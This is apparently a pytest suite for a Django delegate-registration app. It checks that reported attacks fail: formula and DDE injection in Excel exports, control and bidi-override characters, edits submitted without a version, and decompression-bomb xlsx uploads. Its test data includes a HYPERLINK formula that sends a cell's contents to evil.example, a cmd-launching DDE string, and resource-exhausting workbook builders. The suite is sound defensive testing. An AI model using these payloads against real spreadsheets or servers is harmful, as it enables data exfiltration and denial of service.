"""Issue #7: each attack on registration, replayed; each must fail.

1 formula injection in the export, 2 control characters, 3 invisible characters,
5 a save without its version, 7 an upload that costs the server minutes. The
attacks needing two sessions (4, and 5 under concurrency) are in
test_concurrency.py; 6 in tests/accounts/test_login_throttling.py; 8 in
tests/test_production_build.py; 9 in test_services.py and test_views.py.
"""

import io
import random
import time
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from participants.enums import Agency, DelegateRole
from participants.excel.reading import read_delegate_sheet
from participants.excel.reading.sheet_xml import Limits
from participants.models import Delegate, DelegateImport
from tests.factories import DelegateFactory
from tests.xlsx_files import SHEET_START, STRINGS_START, header_row, raw_xlsx

from .test_excel_support import CHAIR, upload, with_zip_member, workbook_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
DDE = "=cmd|'/C calc'!A0"
FORMULA_EMAIL = "=1+1@evil.vn"
BIDI_MESSAGE = (
    "Nội dung có ký tự ẩn điều khiển hướng chữ (như U+202E) làm nội dung hiển thị "
    "sai lệch. Vui lòng gõ lại thay vì dán từ nơi khác."
)
STALE_PAGE = (
    "Trang này đã cũ hoặc thiếu thông tin (không có số phiên bản). Chưa có gì được "
    "lưu: vui lòng tải lại trang và thực hiện lại thay đổi."
)


def add_url(point):
    return reverse("participants:delegate_add", args=[point.pk])


def add(client, point, **overrides):
    data = {
        "full_name": "Nguyễn Văn An",
        "position": "Chuyên viên",
        "agency": Agency.HOME_AFFAIRS,
        "agency_other": "",
        "phone": "0912 345 678",
        "email": "",
        "role": DelegateRole.ATTENDEE,
    }
    data.update(overrides)
    return client.post(add_url(point), data)


def export_cells(client, point) -> list:
    response = client.get(reverse("participants:delegate_export", args=[point.pk]))
    assert response.status_code == 200
    content = response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


# -- 1. formula injection -------------------------------------------------------


def test_formula_delegates_export_as_neutralised_text_cells(
    open_conference, hanoi_client, organiser_client, hanoi_point
):
    # The web form accepts all three, as the attacker found.
    assert add(hanoi_client, hanoi_point, full_name=HYPERLINK).status_code == 302
    assert (
        add(
            hanoi_client,
            hanoi_point,
            full_name="Trần Thị Mai",
            agency=Agency.OTHER,
            agency_other=DDE,
            phone="0983 456 789",
            email=FORMULA_EMAIL,
        ).status_code
        == 302
    )

    for client in (hanoi_client, organiser_client):
        cells = export_cells(client, hanoi_point)
        # Text cells only, but for the row numbers the portal counted.
        assert {c.data_type for c in cells if c.column > 1} == {"s"}
        formula_like = {
            cell.value: cell.quotePrefix
            for cell in cells
            if isinstance(cell.value, str)
            and cell.value.startswith(("=", "+", "-", "@"))
        }
        # Shown as typed, without a visible quote, and kept as text by the style.
        assert formula_like == {HYPERLINK: True, DDE: True, FORMULA_EMAIL: True}


def test_the_template_holds_only_string_cells(
    open_conference, hanoi_client, hanoi_point
):
    response = hanoi_client.get(
        reverse("participants:delegate_template", args=[hanoi_point.pk])
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert cells and {cell.data_type for cell in cells if cell.column > 1} == {"s"}


def test_an_exported_formula_name_imports_back_as_it_was(
    open_conference, hanoi_client, hanoi_point
):
    DelegateFactory(point=hanoi_point, full_name=HYPERLINK, role=DelegateRole.CHAIR)
    exported = hanoi_client.get(
        reverse("participants:delegate_export", args=[hanoi_point.pk])
    ).content

    sheet = read_delegate_sheet(exported, file_name="x.xlsx", max_rows=10)

    from participants.excel.reading import Vocabulary, row_data

    rows = [row_data(row, vocabulary=Vocabulary.build()) for row in sheet.rows]
    assert [row.data["full_name"] for row in rows] == [HYPERLINK]


# -- 2. control characters --------------------------------------------------------


def test_control_characters_are_stripped_by_the_web_form(
    open_conference, hanoi_client, hanoi_point
):
    response = add(
        hanoi_client,
        hanoi_point,
        full_name="Nguyễn\x01 Văn\x1b An",
        position="Chuyên\x07 viên",
    )

    assert response.status_code == 302
    assert Delegate.objects.values_list("full_name", "position").get() == (
        "Nguyễn Văn An",
        "Chuyên viên",
    )


def test_control_characters_are_stripped_from_the_point_form(
    open_conference, hanoi_client, hanoi_point
):
    response = hanoi_client.post(
        reverse("participants:point_edit", args=[hanoi_point.pk]),
        {
            "room": "Phòng\x01 họp số 2\u200b",
            "address": "12 Lê\x0c Lai",
            "technical_contact_name": "Vũ\x02 Kỹ Thuật",
            "technical_contact_phone": "",
            "version": hanoi_point.version,
        },
    )

    assert response.status_code == 302
    hanoi_point.refresh_from_db()
    assert (
        hanoi_point.room,
        hanoi_point.address,
        hanoi_point.technical_contact_name,
    ) == (
        "Phòng họp số 2",
        "12 Lê Lai",
        "Vũ Kỹ Thuật",
    )


def test_data_stored_before_the_fix_still_exports(
    open_conference, hanoi_client, organiser_client, hanoi_point
):
    DelegateFactory(
        point=hanoi_point, full_name="Nguyễn\x01 Văn An", position="Chuyên\x0b viên"
    )

    for client in (hanoi_client, organiser_client):
        values = [cell.value for cell in export_cells(client, hanoi_point)]
        assert "Nguyễn Văn An" in values
        assert "Chuyên viên" in values


# -- 3. invisible characters -----------------------------------------------------


@pytest.mark.parametrize(
    "invisible", ["\u200e", "\u00ad", "\u034f", "\u200b", "\ufeff"]
)
def test_the_same_person_with_an_invisible_character_is_a_duplicate(
    open_conference, hanoi_client, hanoi_point, invisible
):
    assert add(hanoi_client, hanoi_point).status_code == 302

    response = add(hanoi_client, hanoi_point, full_name=f"Nguyễn{invisible} Văn An")

    assert response.status_code == 200
    assert "Nguyễn Văn An với số điện thoại này đã có trong danh sách." in (
        response.content.decode()
    )
    assert Delegate.objects.count() == 1


def test_a_duplicate_already_stored_with_invisible_characters_is_found(
    open_conference, hanoi_client, hanoi_point
):
    DelegateFactory(
        point=hanoi_point, full_name="Nguyễn\u200e Văn An", phone="+84912345678"
    )

    response = add(hanoi_client, hanoi_point)

    assert response.status_code == 200
    assert Delegate.objects.count() == 1


def test_a_right_to_left_override_is_refused_with_what_was_typed(
    open_conference, hanoi_client, hanoi_point
):
    response = add(hanoi_client, hanoi_point, full_name="Nguyễn Văn \u202enA")

    assert response.status_code == 200
    html = response.content.decode()
    assert BIDI_MESSAGE in html
    assert 'value="0912 345 678"' in html
    assert Delegate.objects.count() == 0


def test_the_import_catches_invisible_duplicates_and_bidi_overrides(
    open_conference, hanoi_client, hanoi_point
):
    DelegateFactory(point=hanoi_point, full_name="Nguyễn Văn An", phone="+84912345678")
    data = workbook_bytes(
        [
            [1, "Nguyễn\u200e Văn\u00ad An", "", "Sở Nội vụ", "", "0912345678", "", ""],
            [2, "Lê Văn \u202eTám", "", "Sở Nội vụ", "", "", "", ""],
        ]
    )

    hanoi_client.post(
        reverse("participants:delegate_import", args=[hanoi_point.pk]),
        {"file": upload(data), "mode": "append"},
    )

    delegate_import = DelegateImport.objects.get()
    assert set(delegate_import.row_errors) == {"2", "3"}
    assert "đã có trong danh sách" in " ".join(delegate_import.row_errors["2"])
    assert delegate_import.row_errors["3"] == [f"Họ và tên: {BIDI_MESSAGE}"]


# -- 5. a save without its version --------------------------------------------------


@pytest.mark.parametrize("version", [None, "", "abc", "-3"])
def test_a_delegate_edit_without_a_valid_version_is_refused_keeping_the_input(
    open_conference, hanoi_client, hanoi_point, version
):
    delegate = DelegateFactory(point=hanoi_point, position="Chuyên viên")
    data = {
        "full_name": delegate.full_name,
        "position": "Trưởng phòng mới",
        "agency": delegate.agency,
        "phone": "",
        "email": "",
        "role": delegate.role,
    }
    if version is not None:
        data["version"] = version

    response = hanoi_client.post(
        reverse("participants:delegate_edit", args=[hanoi_point.pk, delegate.pk]), data
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert STALE_PAGE in html
    assert 'value="Trưởng phòng mới"' in html
    delegate.refresh_from_db()
    assert (delegate.position, delegate.version) == ("Chuyên viên", 1)


def test_a_point_edit_without_its_version_is_refused_keeping_the_input(
    open_conference, hanoi_client, hanoi_point
):
    response = hanoi_client.post(
        reverse("participants:point_edit", args=[hanoi_point.pk]),
        {"room": "Phòng 305", "address": "", "technical_contact_name": ""},
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert STALE_PAGE in html
    assert 'value="Phòng 305"' in html
    hanoi_point.refresh_from_db()
    assert hanoi_point.room == "Phòng họp trực tuyến UBND tỉnh"


@pytest.mark.parametrize("version", [None, "x"])
def test_a_submit_or_delete_without_its_version_is_refused(
    open_conference, hanoi_client, hanoi_point, version
):
    delegate = DelegateFactory(point=hanoi_point, role=DelegateRole.CHAIR)
    data = {} if version is None else {"list_version": version, "version": version}

    submit = hanoi_client.post(
        reverse("participants:point_submit", args=[hanoi_point.pk]), data, follow=True
    )
    delete = hanoi_client.post(
        reverse("participants:delegate_delete", args=[hanoi_point.pk, delegate.pk]),
        data,
        follow=True,
    )

    for response in (submit, delete):
        assert STALE_PAGE in response.content.decode()
    hanoi_point.refresh_from_db()
    assert hanoi_point.delegate_list.status == "draft"
    assert Delegate.objects.filter(pk=delegate.pk).exists()


# -- 7. an upload that costs minutes -----------------------------------------------


def delegate_row(number: int, *, extra_columns: int = 0) -> str:
    cells = (
        f'<c r="B{number}" t="inlineStr"><is><t>Nguyễn Văn {number}</t></is></c>'
        f'<c r="D{number}" t="inlineStr"><is><t>Sở Nội vụ</t></is></c>'
    )
    for column in range(extra_columns):
        cells += f'<c r="{chr(73 + column)}{number}"><v>1</v></c>'
    return f'<row r="{number}">{cells}</row>'


def refused_quickly(client, point, data: bytes) -> str:
    started = time.perf_counter()
    response = client.post(
        reverse("participants:delegate_import", args=[point.pk]),
        {"file": upload(data), "mode": "append"},
    )
    elapsed = time.perf_counter() - started
    assert response.status_code == 200
    assert DelegateImport.objects.count() == 0
    assert elapsed < 3, elapsed
    return response.content.decode()


def test_the_reported_attack_file_is_refused_before_any_cell_is_parsed(
    open_conference, hanoi_client, hanoi_point
):
    # 3 MB that unpack to 64 MB: two million cells in the header-scan rows.
    cells = "".join(f'<c r="A{n % 15 + 1}"><v>1</v></c>' for n in range(1000))
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", header_row()]
        + ['<row r="2">' + cells + "</row>"] * 2000
        + ["</sheetData></worksheet>"]
    )
    assert len(data) < 5 * 1024 * 1024

    html = refused_quickly(hanoi_client, hanoi_point, data)

    assert "Một phần của tệp Excel (xl/worksheets/sheet1.xml) khi giải nén" in html


def test_a_sheet_declaring_a_huge_size_is_refused_before_its_rows(
    open_conference, hanoi_client, hanoi_point
):
    data = raw_xlsx(
        [
            SHEET_START,
            '<dimension ref="A1:XFD1048576"/><sheetData>',
            header_row(),
            delegate_row(2),
            "</sheetData></worksheet>",
        ]
    )

    html = refused_quickly(hanoi_client, hanoi_point, data)

    assert (
        "Trang tính “Danh sách đại biểu” dùng đến cột XFD; danh sách đại biểu chỉ "
        "được dùng tối đa 32 cột (từ A đến AF)."
    ) in html


def test_a_sheet_declaring_a_million_rows_is_refused(
    open_conference, hanoi_client, hanoi_point
):
    data = raw_xlsx(
        [
            SHEET_START,
            '<dimension ref="A1:H1048576"/><sheetData>',
            header_row(),
            delegate_row(2),
            "</sheetData></worksheet>",
        ]
    )

    html = refused_quickly(hanoi_client, hanoi_point, data)

    assert "Trang tính “Danh sách đại biểu” kéo dài đến dòng 1048576" in html


def test_a_header_row_with_thousands_of_cells_is_refused(
    open_conference, hanoi_client, hanoi_point
):
    wide = "".join(f'<c r="H1"><v>{n}</v></c>' for n in range(100_000))
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", '<row r="1">', wide, "</row>", delegate_row(2)]
        + ["</sheetData></worksheet>"]
    )

    html = refused_quickly(hanoi_client, hanoi_point, data)

    assert "danh sách đại biểu chỉ được dùng tối đa 32 cột" in html


def test_a_row_far_below_the_list_is_refused():
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", header_row(), delegate_row(2)]
        + [delegate_row(1_000_000), "</sheetData></worksheet>"]
    )

    from participants.excel.reading.container import WorkbookRefused

    with pytest.raises(WorkbookRefused) as exc:
        read_delegate_sheet(data, file_name="x.xlsx", max_rows=5000)
    assert exc.value.code == "too_many_sheet_rows"


def test_more_cells_than_a_list_needs_are_refused():
    limits = Limits(max_rows=50)  # 1,600 cells at most
    rows = [delegate_row(n, extra_columns=17) for n in range(2, 101)]
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", header_row(), *rows, "</sheetData></worksheet>"]
    )

    from participants.excel.reading.container import WorkbookRefused

    with pytest.raises(WorkbookRefused) as exc:
        read_delegate_sheet(data, file_name="x.xlsx", max_rows=limits.max_rows)
    assert exc.value.code == "too_many_cells"


def test_more_shared_strings_than_a_list_needs_are_refused():
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", header_row(), delegate_row(2)]
        + ["</sheetData></worksheet>"],
        shared_strings=[
            STRINGS_START,
            "".join(f"<si><t>{n}</t></si>" for n in range(3000)),
            "</sst>",
        ],
    )

    from participants.excel.reading.container import WorkbookRefused

    with pytest.raises(WorkbookRefused) as exc:
        read_delegate_sheet(data, file_name="x.xlsx", max_rows=100)
    assert exc.value.code == "too_many_strings"


def test_a_file_at_the_limits_is_read(settings):
    max_rows = settings.DELEGATE_IMPORT_MAX_ROWS
    rows = [delegate_row(n, extra_columns=8) for n in range(2, max_rows + 2)]
    data = raw_xlsx(
        [SHEET_START, "<sheetData>", header_row(), *rows, "</sheetData></worksheet>"]
    )

    sheet = read_delegate_sheet(data, file_name="x.xlsx", max_rows=max_rows)

    assert len(sheet.rows) == max_rows


def _noise(size: int, seed: int) -> str:
    """Digits that deflate about 2:1, so a part passes the compression-ratio check."""
    return "".join(random.Random(seed).choices("0123456789", k=size))


def _rows_xml(size: int, seed: int) -> bytes:
    """A worksheet of about `size` bytes that declares no dimension."""
    noise = _noise(size, seed)
    rows = "".join(
        f'<row r="{n + 1}"><c r="A{n + 1}" t="inlineStr"><is><t>{noise[i : i + 60]}'
        "</t></is></c></row>"
        for n, i in enumerate(range(0, size, 60))
    )
    return (SHEET_START + f"<sheetData>{rows}</sheetData></worksheet>").encode()


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _add_sheets(data: bytes, sheets: dict[int, bytes], *, state: str) -> bytes:
    """The workbook with more sheets (number → XML), all `state`."""
    listed = "".join(
        f'<sheet xmlns:r="{RELATIONSHIPS}" name="Trang {n}" sheetId="{n}" '
        f'state="{state}" r:id="rIdX{n}"/>'
        for n in sheets
    )
    related = "".join(
        f'<Relationship Id="rIdX{n}" Type="{RELATIONSHIPS}/worksheet" '
        f'Target="worksheets/sheet{n}.xml"/>'
        for n in sheets
    )
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zip:
        for item in source.infolist():
            payload = source.read(item.filename)
            if item.filename == "xl/workbook.xml":
                payload = payload.replace(b"</sheets>", listed.encode() + b"</sheets>")
            if item.filename == "xl/_rels/workbook.xml.rels":
                payload = payload.replace(
                    b"</Relationships>", related.encode() + b"</Relationships>"
                )
            zip.writestr(item.filename, payload)
        for n, content in sheets.items():
            zip.writestr(f"xl/worksheets/sheet{n}.xml", content)
    return buffer.getvalue()


def test_openpyxl_is_given_only_the_parts_a_list_is_read_from():
    from participants.excel.reading.package import open_package

    data = _add_sheets(
        workbook_bytes([CHAIR]), {2: _rows_xml(1000, seed=1)}, state="hidden"
    )
    package = open_package(data)

    subset = zipfile.ZipFile(package.readable_subset(package.sheets[:1]))

    assert [(s.title, s.state) for s in package.sheets] == [
        ("Danh sách đại biểu", "visible"),
        ("Trang 2", "hidden"),
    ]
    # No styles, properties, theme, nor the sheet the import never reads.
    assert sorted(subset.namelist()) == [
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/_rels/workbook.xml.rels",
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
    ]


def test_a_bloated_style_sheet_costs_the_reader_nothing():
    # openpyxl takes 2 s of CPU to load 8 MB of cell formats; the reader never
    # gives it the style sheet.
    noise = _noise(440_000, seed=2)
    xfs = "".join(
        f'<xf numFmtId="{noise[i : i + 2]}" fontId="{noise[i + 2 : i + 4]}" '
        'fillId="0" borderId="0"/>'
        for i in range(0, len(noise), 4)
    )

    def bloated(xml: bytes) -> bytes:
        return xml.replace(
            b"<cellXfs", b"<cellXfs>" + xfs.encode() + b"</cellXfs><x", 1
        )

    data = with_zip_member(
        workbook_bytes([CHAIR]), "", b"", replace=("xl/styles.xml", bloated)
    )
    assert (
        6_000_000 < zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/styles.xml").file_size
    )

    started = time.process_time()
    sheet = read_delegate_sheet(data, file_name="x.xlsx", max_rows=10)

    assert time.process_time() - started < 1
    assert [row.cells["full_name"] for row in sheet.rows] == ["Nguyễn Văn Hùng"]


def test_sheets_too_large_together_are_refused_before_openpyxl_scans_them():
    from participants.excel.reading.container import WorkbookRefused

    # Three sheets of 5.7 MB: each under the part limit, 17 MB together.
    sheet = _rows_xml(5_700_000, seed=3)
    data = _add_sheets(
        workbook_bytes([CHAIR]), dict.fromkeys((2, 3, 4), sheet), state="visible"
    )

    started = time.process_time()
    with pytest.raises(WorkbookRefused) as exc:
        read_delegate_sheet(data, file_name="x.xlsx", max_rows=5000)

    assert exc.value.code == "expands_too_far"
    assert time.process_time() - started < 1


def test_a_workbook_part_larger_than_any_real_one_is_refused():
    from participants.excel.reading.container import WorkbookRefused

    names = "".join(
        f'<definedName name="n{n}">Sheet!$A${n}</definedName>' for n in range(40_000)
    )

    def bloated(xml: bytes) -> bytes:
        return xml.replace(
            b"</workbook>", f"<definedNames>{names}</definedNames></workbook>".encode()
        )

    data = with_zip_member(
        workbook_bytes([CHAIR]), "", b"", replace=("xl/workbook.xml", bloated)
    )

    with pytest.raises(WorkbookRefused) as exc:
        read_delegate_sheet(data, file_name="x.xlsx", max_rows=10)

    assert exc.value.code == "part_too_large"
    assert "(xl/workbook.xml)" in exc.value.messages[0]


def test_admin_forms_clean_text_the_same_way(rf, hanoi_point):
    from django.contrib import admin

    from conference.models import BridgePoint

    request = rf.get("/admin/")
    request.user = factories_admin()
    delegate_form = admin.site._registry[Delegate].get_form(request)
    point_form = admin.site._registry[BridgePoint].get_form(request, obj=hanoi_point)

    delegate = delegate_form(
        data={
            "point": hanoi_point.pk,
            "full_name": "Nguyễn\x01 Văn\u200e An",
            "agency": Agency.HOME_AFFAIRS,
            "role": DelegateRole.ATTENDEE,
            "version": 1,
        }
    )
    assert delegate.is_valid(), delegate.errors
    assert delegate.cleaned_data["full_name"] == "Nguyễn Văn An"
    refused = delegate_form(
        data={
            "point": hanoi_point.pk,
            "full_name": "Nguyễn Văn \u202eAn",
            "agency": Agency.HOME_AFFAIRS,
            "role": DelegateRole.ATTENDEE,
            "version": 1,
        }
    )
    assert refused.errors["full_name"] == [BIDI_MESSAGE]
    assert "room" in point_form.base_fields
    point = point_form(instance=hanoi_point, data={"room": "Phòng\x01 1"})
    point.is_valid()
    assert point.cleaned_data["room"] == "Phòng 1"


def factories_admin():
    from tests.factories import admin_user

    return admin_user(username="admin-text", is_staff=True, is_superuser=True)
